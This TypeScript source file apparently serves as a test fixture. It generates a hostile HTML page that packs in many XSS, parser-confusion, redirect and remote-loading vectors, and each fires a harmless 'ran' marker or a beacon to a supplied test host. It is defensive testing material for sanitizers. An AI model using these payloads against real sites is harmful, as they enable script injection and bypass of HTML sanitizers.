/**
 * A page of a newspaper that tries whatever a page can: to run something, to load something from elsewhere, to lead its
 * reader away, to hide one thing behind how browsers and parsers differ. Whatever it loads is asked of `host`, whatever
 * runs puts `ran` into the title or asks `host` for it.
 */
export function hostilePage(host: string): string {
  const at = (name: string): string => `http://${host}/${name}`;
  const run = `document.title='ran';new Image().src='${at('ran')}'`;
  return `<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">
<html manifest="${at('manifest')}" onclick="${run}"><head><title>恶意</title>
<meta http-equiv="refresh" content="0;url=${at('refresh')}">
<meta http-equiv="Content-Security-Policy" content="default-src * data: 'unsafe-inline' 'unsafe-eval'">
<base href="${at('base/')}" target="_top">
<link rel="stylesheet" href="${at('style.css')}"><link rel="preload" as="image" href="${at('preload')}">
<link rel="dns-prefetch" href="//dns.${host}"><link rel="icon" href="${at('icon')}">
<script>${run}</script><script src="${at('script.js')}"></script><script type="module">${run}</script>
<style>
@import "${at('import.css')}"; @import url(${at('import2.css')});
@font-face { font-family: x; src: url(${at('font.woff')}); }
body { background: url("${at('background')}"); font-family: x; }
p { background: u\\72l(${at('escaped')}); list-style: image-set("${at('set')}" 1x); cursor: url(${at('cursor')}), auto; }
h1 { behavior: url(${at('behavior')}); -moz-binding: url(${at('binding')}); width: expression(${run}); }
/* </style><script>${run}</script> */ a::after { content: "</style><img src=x onerror=\\"${run}\\">"; }
</style></head>
<body onload="${run}" background="${at('body')}">
<h1 onmouseover="${run}">正文</h1>
<img src="${at('image')}" srcset="${at('set1')} 2x" onerror="${run}" loading="eager"><img src="x" onerror=${run.replaceAll(' ', '/**/')}>
<img src="data:image/svg+xml,<svg onload='${run}' xmlns='http://www.w3.org/2000/svg'/>"><img src="//${host}/scheme-less">
<picture><source srcset="${at('source')}"><img alt="x" src="${at('picture')}"></picture>
<svg onload="${run}"><script>${run}</script><image href="${at('svg')}" /><use href="${at('use.svg#x')}" />
<foreignObject><iframe src="${at('foreign')}"></iframe></foreignObject><animate attributeName="href" values="javascript:${run}" /></svg>
<math><mi xlink:href="javascript:${run}">x</mi><mtext><table><mglyph><style><!--</style><img src onerror="${run}">--></style></table></mtext></math>
<iframe src="${at('iframe')}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>
<object data="${at('object')}"><embed src="${at('embed')}"></object><applet code="${at('applet')}"></applet>
<video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio>
<form action="${at('form')}" id="f"><input name="a" autofocus onfocus="${run}"><button formaction="javascript:${run}">送</button>
<input type="image" src="${at('input')}"></form><isindex action="${at('isindex')}">
<a href="javascript:${run}" id="js">js</a><a href=" java\nscript:${run}" id="js2">js2</a><a href="data:text/html,<script>${run}</script>" id="data">data</a>
<a href="${at('away')}" id="away" ping="${at('ping')}" target="_top" download>away</a>
<a href="&#106;avascript:${run}" id="js3">js3</a>
<p style="background:url(${at('inline')});width:expression(${run})" onclick="${run}">段</p>
<table background="${at('table')}"><tr><td background="javascript:${run}">格</td></tr></table>
<p title="&quot;><script>${run}</script>">引</p><p title='"onclick=${run} x="'>号</p>
<!--><script>${run}</script>--><!-- --!><script>${run}</script> --><![CDATA[<script>${run}</script>]]>
<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<template><script>${run}</script></template><textarea><script>${run}</script></textarea>
<title><img src=x onerror="${run}"></title><xmp><script>${run}</script></xmp><noembed><img src=x onerror=${run}></noembed>
<scr\0ipt>${run}</scr\0ipt><p on\0click="${run}">零\0字</p><portal src="${at('portal')}"></portal>
<details open ontoggle="${run}">细</details><marquee onstart="${run}">走</marquee><dialog open oncancel="${run}">框</dialog>
<frameset onload="${run}"><frame src="${at('frame')}"></frameset>
<p id="last">最后一段</p>
<plaintext><script>${run}</script><img src=x onerror="${run}">`;
}
